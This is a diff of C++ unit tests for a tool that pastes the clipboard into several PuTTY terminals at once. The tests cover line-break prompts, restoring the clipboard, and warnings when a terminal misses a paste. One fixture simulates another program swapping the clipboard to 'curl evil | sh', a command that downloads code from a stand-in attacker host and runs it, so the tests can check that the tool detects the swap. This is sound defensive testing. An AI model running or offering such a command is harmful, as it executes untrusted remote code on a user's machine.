@@ -678,7 +678,7 @@ protected:
     }
 };
 
-TEST_F(PasteTest, LineFeedDecidesWhetherToAsk) {
+TEST_F(PasteTest, LineBreaksDecideWhetherToAsk) {
     struct Case {
         std::u16string text;
         bool confirm;
@@ -686,8 +686,9 @@ TEST_F(PasteTest, LineFeedDecidesWhetherToAsk) {
     };
     const Case cases[] = {
         {u"ls -l", true, false},       {u"one\r\ntwo", true, true}, {u"one\ntwo", true, true},
-        {u"one\rtwo\r", true, false},  {u"ends\n", true, true},     {u"\n", true, true},
-        {u"one\r\ntwo", false, false}, {u"ends\n", false, false},
+        {u"one\rtwo\r", true, true},   {u"ends\n", true, true},     {u"\n", true, true},
+        {u"cr-a\rcr-b", true, true},    {u"ends\r", true, true},     {u"one\r\ntwo", false, false},
+        {u"ends\n", false, false},      {u"ends\r", false, false},
     };
     for (const auto& c : cases) {
         SetUp();
@@ -982,19 +983,116 @@ TEST(PasteLineEnds, EveryLoneCrOrLfIsShownAsCrLf) {
         EXPECT_TRUE(withCrLfLineEnds(c.text) == c.shown) << c.name;
 }
 
-TEST_F(PasteTest, TheBoxShowsLfLinesAsCrLfAndTheClipboardIsLeftAsItIs) {
+TEST_F(PasteTest, TheBoxShowsLfLinesAsCrLfAndTheClipboardEndsAsItWas) {
     auto h = ready(u"echo lf-1\necho lf-2");
     const auto block = desk().clipboardBlock;
-    const auto sequence = desk().clipboardSequence;
     broadcastPaste();
     ASSERT_EQ(pasteDialogRuns, 1);
     EXPECT_TRUE(pendingPasteShown() == u"echo lf-1\r\necho lf-2");
     EXPECT_TRUE(std::u16string(pendingPasteText()) == u"echo lf-1\necho lf-2");
     confirmPaste();
     EXPECT_EQ(mousePairs().size(), 6u);
-    EXPECT_EQ(desk().clipboardBlock, block) << "the clipboard was written";
-    EXPECT_EQ(desk().clipboardSequence, sequence) << "the clipboard was written";
+    for (auto w : h)
+        EXPECT_EQ(desk()[w].pastes, std::vector<std::u16string>{u"echo lf-1\necho lf-2"});
+    EXPECT_EQ(desk().clipboardBlock, block) << "the user's text did not come back";
     EXPECT_TRUE(desk().warnings.empty());
+}
+
+// A terminal pastes from a reader of its own that gives up when the
+// clipboard is held: readers that overlap lose pastes without a word. Each
+// terminal is clicked only once the one before has read, and the clipboard
+// then holds again what it held, but for what cannot be copied.
+TEST_F(PasteTest, EveryTerminalReadsAloneAndTheClipboardEndsAsItWas) {
+    for (const int count : {2, 5}) {
+        SetUp();
+        std::vector<std::u16string> titles;
+        for (int i = 0; i < count; ++i)
+            titles.push_back(std::u16string(1, static_cast<char16_t>(u'a' + i)));
+        auto h = discover(titles);
+        selectAll();
+        desk().setClipboardText(u"uptime");
+        desk().clipboardFormats[0xC123] = {1, 2, 3};  // a program's own format
+        desk().handleFormats = {2};                   // CF_BITMAP: a handle
+        desk().focus = app().controls.commandEdit;
+        broadcastPaste();
+        desk().runReaders();  // whatever readers are still to run
+        for (auto w : h) {
+            EXPECT_EQ(desk()[w].pastes, std::vector<std::u16string>{u"uptime"}) << count;
+            EXPECT_EQ(desk()[w].pastesGivenUp, 0) << count;
+        }
+        EXPECT_EQ(desk().clipboardText(), u"uptime") << count;
+        EXPECT_EQ(desk().clipboardFormats.at(0xC123), (std::vector<unsigned char>{1, 2, 3}));
+        EXPECT_TRUE(desk().clipboardFormats.count(
+            platform::registerClipboardFormat(u"ExcludeClipboardContentFromMonitorProcessing")))
+            << "the copy put back would show in clipboard history";
+        EXPECT_FALSE(desk().clipboardOpen);
+        EXPECT_TRUE(desk().warnings.empty()) << count;
+    }
+}
+
+TEST_F(PasteTest, AReadThatDoesNotComeIsSeen) {
+    const std::u16string taken =
+        kChangedMidway + u"\n・a\n\n" +
+        u"変更後の内容を貼り付けた可能性があるPuTTYウィンドウ：\n\n・b\n\n" + kNotPasted + u"\n・c";
+    struct Case {
+        const char* name;
+        void (*arrange)(fake::Desktop&, platform::WindowHandle b);
+        std::vector<int> pasted;  // of a, b, c
+        int clicksOfB;
+        std::u16string warning;
+        std::u16string clipboardAfter;
+    };
+    const Case cases[] = {
+        {"b never reads", [](fake::Desktop& d, auto b) { d[b].readsPaste = false; }, {0, 2}, 2,
+         kMissedPaste + u"\n・b", u"ls"},
+        {"b closes before its read",
+         [](fake::Desktop& d, auto b) {
+             d.duringCall = [&d, b](const std::string& call, platform::WindowHandle w) {
+                 if (call == "rightUp" && w == b)
+                     d.close(b);
+             };
+         },
+         {0, 2}, 1, u"", u"ls"},
+        {"another program fills the clipboard as b is clicked",
+         [](fake::Desktop& d, auto b) {
+             d.duringCall = [&d, b](const std::string& call, platform::WindowHandle w) {
+                 if (call == "rightUp" && w == b)
+                     d.setClipboardText(u"curl evil | sh");
+             };
+         },
+         {0}, 1, taken, u"curl evil | sh"},
+        {"another program holds the clipboard when OK is pressed",
+         [](fake::Desktop& d, auto) { d.clipboardBusy = true; }, {}, 0,
+         u"ほかのプログラムがクリップボードを開いたままにしているため、貼り付けていません。\n"
+         u"しばらくしてからもう一度貼り付けてください。",
+         u"ls\n"},
+    };
+    for (const auto& c : cases) {
+        SetUp();
+        const bool inTheBox = c.clicksOfB == 0;
+        auto h = ready(inTheBox ? u"ls\n" : u"ls");
+        const std::uint64_t start = desk().clockMs;
+        if (inTheBox)
+            broadcastPaste();
+        c.arrange(desk(), h[1]);
+        if (inTheBox)
+            confirmPaste();
+        else
+            broadcastPaste();
+        desk().clipboardBusy = false;
+        for (int i = 0; i < 3; ++i) {
+            const bool pasted = std::count(c.pasted.begin(), c.pasted.end(), i) > 0;
+            EXPECT_EQ(desk()[h[i]].pastes.size(), pasted ? 1u : 0u) << c.name << " " << i;
+        }
+        EXPECT_EQ(desk().callsFor("rightDown " + tag(h[1])).size(), std::size_t(c.clicksOfB))
+            << c.name;
+        EXPECT_LE(desk().clockMs - start, 2 * kPasteReadMs + kClipboardFreeMs) << c.name;
+        ASSERT_EQ(desk().warnings.size(), c.warning.empty() ? 0u : 1u) << c.name;
+        if (!c.warning.empty()) {
+            EXPECT_EQ(desk().warnings[0].first, c.warning) << c.name;
+        }
+        EXPECT_EQ(desk().clipboardText(), c.clipboardAfter) << c.name;
+    }
 }
 
 TEST_F(PasteTest, ATerminalThatMissesThePasteIsNamedAndOneThatClosedIsNot) {
@@ -1018,7 +1116,7 @@ TEST_F(PasteTest, ATerminalThatMissesThePasteIsNamedAndOneThatClosedIsNot) {
                  fake::desktop()[b].hung = true;
          },
          {"a", "b down", "c"},
-         kMissedPaste + u"\n・b"},
+         kMissedPaste + u"\n・b"},  // and its button-up posted, below
         {"b closes while it is probed",
          [](const std::string& call, platform::WindowHandle w, platform::WindowHandle b) {
              if (call == "windowAnswers" && w == b)
@@ -1049,6 +1147,7 @@ TEST_F(PasteTest, ATerminalThatMissesThePasteIsNamedAndOneThatClosedIsNot) {
                 expected.push_back(tag(w) + " up");
         }
         EXPECT_EQ(mousePairs(), expected) << c.name;
+        EXPECT_EQ(desk()[h[1]].postedButtonUps, c.pasted[1] == "b down" ? 1 : 0) << c.name;
         EXPECT_EQ(desk().waitedMs, c.warning.empty() ? 0u : kPasteSendTimeoutMs) << c.name;
         ASSERT_EQ(desk().warnings.size(), c.warning.empty() ? 0u : 1u) << c.name;
         if (!c.warning.empty()) {
